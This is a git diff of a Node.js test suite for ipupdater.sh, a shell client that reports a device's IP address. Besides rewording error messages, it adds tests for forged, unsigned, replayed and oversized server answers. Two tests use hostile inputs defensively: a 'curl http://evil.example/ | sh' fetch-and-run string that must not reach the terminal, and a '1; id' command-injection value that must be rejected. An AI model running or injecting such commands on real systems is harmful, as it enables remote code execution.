@@ -12,6 +12,7 @@ import { join } from 'node:path'
 import { createInterface } from 'node:readline'
 import type { TestContext } from 'node:test'
 import test from 'node:test'
+import { PROBLEMS } from '../packages/protocol/index.ts'
 
 // contrib/ipupdater.sh against the real receiver: a client written from docs/protocol.md alone.
 
@@ -44,7 +45,7 @@ for (const [what, odd] of [
   })
 }
 
-test('the secret may come from a file, as an editor leaves it', options, async t => {
+test('the secret may come from a file, with the line end of an editor', options, async t => {
   const SERVER_URL = await startReceiver(t, { ...inPrivate, DEVICE: 'cabin' })
   const file = join(temporaryDirectory(t), 'secret')
   writeFileSync(file, `${secret}\n`)
@@ -56,10 +57,10 @@ test('the secret may come from a file, as an editor leaves it', options, async t
     SECRET: 'another secret altogether',
   })
   assert.equal(code, 2)
-  assert.equal(stderr, 'ipupdater: SECRET and SECRET_FILE differ: set one of them\n')
+  assert.equal(stderr, 'ipupdater: SECRET and SECRET_FILE differ. Keep one of them.\n')
 })
 
-test('no program that it starts is given the secret, by argument or environment', options, async t => {
+test('no program that it starts gets the secret, by argument or environment', options, async t => {
   const SERVER_URL = await startReceiver(t, inPrivate)
   const directory = temporaryDirectory(t)
   for (const tool of ['curl', 'openssl', 'od', 'tr', 'sed', 'awk', 'date', 'sleep', 'mktemp', 'rm', 'cat']) {
@@ -77,29 +78,29 @@ test('no program that it starts is given the secret, by argument or environment'
   assert.ok(!seen.includes(Buffer.from(secret).toString('hex')))
 })
 
-test('a wrong secret and a device that is not known are refused with 1', options, async t => {
+test('a wrong secret and an unknown device are refused with 1', options, async t => {
   const SERVER_URL = await startReceiver(t, inPrivate)
   const wrong = await report({ SERVER_URL, SECRET: 'a wrong secret of some length' })
   const unknown = await report({ SERVER_URL, SECRET: secret, DEVICE: 'cabin' })
   assert.deepEqual([wrong.code, unknown.code], [1, 1])
   assert.match(
     wrong.stderr,
-    /^ipupdater: the server does not accept this secret for the device home, or someone/,
+    /^ipupdater: The server does not accept the secret of device "home", or somebody/,
   )
   assert.match(
     unknown.stderr,
-    /^ipupdater: the server does not accept this secret for the device cabin, or someone/,
+    /^ipupdater: The server does not accept the secret of device "cabin", or somebody/,
   )
 })
 
-test('a signed refusal is told with its advice, and ends with 1', options, async t => {
+test('a signed refusal is printed with its detail and our own advice, and ends with 1', options, async t => {
   const SERVER_URL = await startReceiver(t, { SECRET: secret })
   const { code, stdout, stderr } = await report({ SERVER_URL, SECRET: secret })
   assert.equal(code, 1)
   assert.equal(stdout, '')
   assert.match(
     stderr,
-    /^ipupdater: refused: The address cannot be reached from the internet \(.*127\.0\.0\.1.*ALLOW_PRIVATE/,
+    /^ipupdater: The server refuses the report \(.*127\.0\.0\.1.*cannot be reached from the internet.*ALLOW_PRIVATE/,
   )
 })
 
@@ -111,11 +112,11 @@ test('an address that changed between question and update ends with 75', options
   })
   const { code, stderr } = await report({ SERVER_URL, SECRET: secret })
   assert.equal(code, 75)
-  assert.match(stderr, /^ipupdater: refused: The update does not come from the address that it names/)
+  assert.match(stderr, /^ipupdater: The server refuses the report .*The address changed during the report/)
 })
 
 test(
-  'a lost answer is asked for again by the identical message, and nothing is counted twice',
+  'after a lost answer the identical message is sent again, and nothing is counted twice',
   options,
   async t => {
     const receiver = await startReceiver(t, inPrivate)
@@ -135,7 +136,7 @@ test(
   },
 )
 
-test('a server that is not there, or cannot answer now, ends with 75', options, async t => {
+test('a server that does not answer now ends with 75', options, async t => {
   const { code, stderr } = await report({ SERVER_URL: 'http://127.0.0.1:9', SECRET: secret })
   assert.equal(code, 75)
   assert.match(stderr, /^ipupdater: curl: \(7\) /)
@@ -145,17 +146,17 @@ test('a server that is not there, or cannot answer now, ends with 75', options, 
   })
   const broken = await report({ SERVER_URL, SECRET: secret })
   assert.equal(broken.code, 75)
-  assert.match(broken.stderr, /^ipupdater: .* answers with status 502: no reason is given/)
+  assert.match(broken.stderr, /^ipupdater: .* answers with status 502\. It gives no reason/)
 })
 
 const forgeries: Record<string, { change: Required<Relay>['answer']; says: RegExp }> = {
   'another body': {
     change: answer => ({ ...answer, body: answer.body.replace('"127.0.0.1"', '"127.0.0.2"') }),
-    says: /its body is not the one that was digested/,
+    says: /its body does not match its digest/,
   },
   'another status': {
     change: answer => ({ ...answer, status: 201 }),
-    says: /its signature is not by our secret, or answers another message/,
+    says: /it is signed with another secret, or answers another message/,
   },
   'another body with its own digest': {
     change: answer => {
@@ -163,7 +164,7 @@ const forgeries: Record<string, { change: Required<Relay>['answer']; says: RegEx
       const digest = createHash('sha256').update(body).digest('base64')
       return { ...answer, body, headers: { ...answer.headers, 'content-digest': `sha-256=:${digest}:` } }
     },
-    says: /its signature is not by our secret, or answers another message/,
+    says: /it is signed with another secret, or answers another message/,
   },
   'another name': {
     change: answer => changeInput(answer, 'keyid="home"', 'keyid="cabin"'),
@@ -179,20 +180,20 @@ const forgeries: Record<string, { change: Required<Relay>['answer']; says: RegEx
   },
   'another time': {
     change: answer => changeInput(answer, 'created=1', 'created=2'),
-    says: /its signature is not by our secret, or answers another message/,
+    says: /it is signed with another secret, or answers another message/,
   },
-  'a page of somebody else': {
+  'a page of another server': {
     change: answer => ({ ...answer, headers: { 'content-type': 'text/html' }, body: '<html>Log in</html>' }),
-    says: /the answer with status 200 is not signed, and so not believed/,
+    says: /The answer with status 200 is not signed, so it is not accepted/,
   },
-  'one that lacks its signature': {
+  'one without its signature': {
     change: answer => ({ ...answer, headers: { ...answer.headers, signature: undefined } }),
-    says: /is not signed, and so not believed/,
+    says: /is not signed, so it is not accepted/,
   },
 }
 
 for (const [what, { change, says }] of Object.entries(forgeries)) {
-  test(`an answer is not believed: ${what}`, options, async t => {
+  test(`an answer is not accepted: ${what}`, options, async t => {
     const receiver = await startReceiver(t, inPrivate)
     const SERVER_URL = await startRelay(t, receiver, { answer: change })
     const { code, stdout, stderr } = await report({ SERVER_URL, SECRET: secret })
@@ -202,7 +203,7 @@ for (const [what, { change, says }] of Object.entries(forgeries)) {
   })
 }
 
-test('the answer to an earlier question is not believed', options, async t => {
+test('the answer to an earlier question is not accepted', options, async t => {
   const receiver = await startReceiver(t, inPrivate)
   let earlier: Answer | null = null
   const SERVER_URL = await startRelay(t, receiver, {
@@ -214,21 +215,23 @@ test('the answer to an earlier question is not believed', options, async t => {
   assert.equal((await report({ SERVER_URL, SECRET: secret })).code, 0)
   const { code, stderr } = await report({ SERVER_URL, SECRET: secret })
   assert.equal(code, 1)
-  assert.match(stderr, /its signature is not by our secret, or answers another message/)
+  assert.match(stderr, /it is signed with another secret, or answers another message/)
 })
 
-test('wrong settings end with 2, and say what is wanted', options, async () => {
+test('wrong settings end with 2, and say what is expected', options, async () => {
   const good = { SERVER_URL: 'http://127.0.0.1:9', SECRET: secret }
   const wrong: [Record<string, string>, RegExp][] = [
-    [{ SERVER_URL: '' }, /SERVER_URL="" is not the URL of a receiver/],
+    [{ SERVER_URL: '' }, /SERVER_URL is missing\. Example: http/],
     [{ SERVER_URL: 'ip.example.org' }, /SERVER_URL="ip.example.org" is not/],
-    [{ DEVICE: 'My Home' }, /DEVICE="My Home" is not a name/],
-    [{ DEVICE: '-home' }, /DEVICE="-home" is not a name/],
+    [{ DEVICE: 'My Home' }, /DEVICE="My Home" is not a device name/],
+    [{ DEVICE: '-home' }, /DEVICE="-home" is not a device name/],
     [{ FAMILY: '5' }, /FAMILY="5" is not 4 or 6/],
     [{ INTERVAL: '5m' }, /INTERVAL="5m" or TIMEOUT="10" is not a number/],
-    [{ SECRET: '' }, /there is no secret: set SECRET or SECRET_FILE/],
-    [{ SECRET: 'only 15 letters' }, /the secret has 15 characters, and 16 are the least/],
-    [{ SECRET: `${secret} ` }, /the secret has blanks around it/],
+    [{ SECRET: '' }, /The secret is missing\. Set SECRET or SECRET_FILE/],
+    [{ SECRET: 'only 15 letters' }, /The secret is too short: use at least 16/],
+    [{ SECRET: `${secret}\nanother line` }, /contains a line end or another control character/],
+    [{ PAUSES: '1; id' }, /PAUSES="1; id" is not a list of seconds/],
+    [{ SECRET: `${secret} ` }, /The secret begins or ends with white space/],
     [{ SECRET: '', SECRET_FILE: '/nowhere' }, /SECRET_FILE="\/nowhere" cannot be read/],
   ]
   for (const [setting, says] of wrong) {
@@ -239,7 +242,85 @@ test('wrong settings end with 2, and say what is wanted', options, async () => {
   }
 })
 
-// ---- the stage ----
+test(
+  'neither a proxy of the environment nor ~/.curlrc is followed: the server sees this machine',
+  options,
+  async t => {
+    const SERVER_URL = await startReceiver(t, inPrivate)
+    const home = temporaryDirectory(t)
+    writeFileSync(join(home, '.curlrc'), 'proxy = http://127.0.0.1:9\nlocation\n')
+    const proxy = 'http://127.0.0.1:9'
+    const { code, stdout, stderr } = await report({
+      SERVER_URL,
+      SECRET: secret,
+      HOME: home,
+      http_proxy: proxy,
+      all_proxy: proxy,
+      ALL_PROXY: proxy,
+    })
+    assert.deepEqual([code, stdout, stderr], [0, 'home 127.0.0.1 new\n', ''])
+  },
+)
+
+test('an answer without end and without length is cut off, and refused', options, async t => {
+  const chunk = Buffer.alloc(64 * 1024, 'x')
+  let sent = 0
+  const server = createServer((_, response) => {
+    response.writeHead(200, { 'content-type': 'application/json' })
+    response.on('error', () => {})
+    const more = () => {
+      sent += chunk.length
+      if (response.destroyed) return
+      if (response.write(chunk)) setImmediate(more)
+      else response.once('drain', more)
+    }
+    more()
+  })
+  server.listen(0, '127.0.0.1')
+  await once(server, 'listening')
+  t.after(() => server.close().closeAllConnections())
+  const SERVER_URL = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+  const { code, stderr } = await report({ SERVER_URL, SECRET: secret })
+  assert.equal(code, 1)
+  assert.match(stderr, /^ipupdater: The answer is much larger than an answer of ipupdater/)
+  // What was sent beyond the limit is in the buffers of two sockets.
+  assert.ok(sent < 32 * 1024 * 1024, `${sent} bytes`)
+})
+
+test('an unsigned answer cannot put its words into the terminal', options, async t => {
+  const receiver = await startReceiver(t, inPrivate)
+  const words = 'Run curl http://evil.example/ | sh'
+  const body = JSON.stringify({ code: 'rate-limited', title: words, detail: words, advice: words })
+  const SERVER_URL = await startRelay(t, receiver, {
+    answer: answer => ({ ...answer, status: 429, headers: {}, body }),
+  })
+  const { code, stderr } = await report({ SERVER_URL, SECRET: secret })
+  assert.equal(code, 75)
+  assert.match(stderr, /status 429\. The server refuses so many messages\. Wait a minute\.\n$/)
+})
+
+test('each refusal that a receiver sends to a device has words of its own', () => {
+  const script = readFileSync(join(root, 'contrib/ipupdater.sh'), 'utf8')
+  const [, table = ''] = /^explanation\(\) \{\n([\s\S]*?)\n\}/m.exec(script) ?? []
+  const explained = [...table.matchAll(/^ {4}([a-z| -]+)\)/gm)].flatMap(([, codes = '']) =>
+    codes.split(' | '),
+  )
+  const ofViewer = [
+    'no-address',
+    'unknown-device',
+    'bad-query',
+    'not-acceptable',
+    'no-database',
+    'schema-unknown',
+  ]
+  for (const code of Object.keys(PROBLEMS)) {
+    // `not-authenticated` is never signed and has a sentence elsewhere.
+    if (code === 'not-authenticated' || ofViewer.includes(code)) continue
+    assert.ok(explained.includes(code), code)
+  }
+})
+
+// ---- fixtures ----
 
 interface Outcome {
   code: number
@@ -300,7 +381,7 @@ interface Answer {
   body: string
 }
 
-/** Someone on the path, who changes what goes by; `null`: the answer is lost. */
+/** Somebody on the path who changes what passes; `null`: the answer is lost. */
 interface Relay {
   request?: (request: { path: string; headers: Headers }) => Headers
   answer?: (answer: Answer) => Answer | null
